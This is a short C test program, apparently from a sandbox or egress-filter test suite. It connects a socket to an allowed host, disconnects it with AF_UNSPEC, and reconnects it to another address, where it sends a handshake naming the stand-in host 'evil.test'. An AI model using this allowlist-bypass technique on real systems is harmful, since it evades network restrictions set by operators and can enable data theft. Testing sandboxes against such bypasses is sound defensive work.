/* A socket that was allowed to connect is taken back, and connected to somewhere else. */
#include "attack.h"
int main(int c, char **v) {
    char address[64];
    unsigned char first[512];
    struct sockaddr nothing = {.sa_family = AF_UNSPEC};
    if (!lookup("allowed.test", address)) finish(0);
    int fd = dial(address, 443);
    if (fd < 0) finish(0);
    struct sockaddr_in to = v4("45.0.0.1", 443);
    if (connect(fd, &nothing, sizeof nothing)) failed("disconnect");
    if (connect(fd, (void *)&to, sizeof to)) { failed("connect"); finish(0); }
    send(fd, first, hello(first, "evil.test"), 0);
    finish(gets_prize(fd));
}
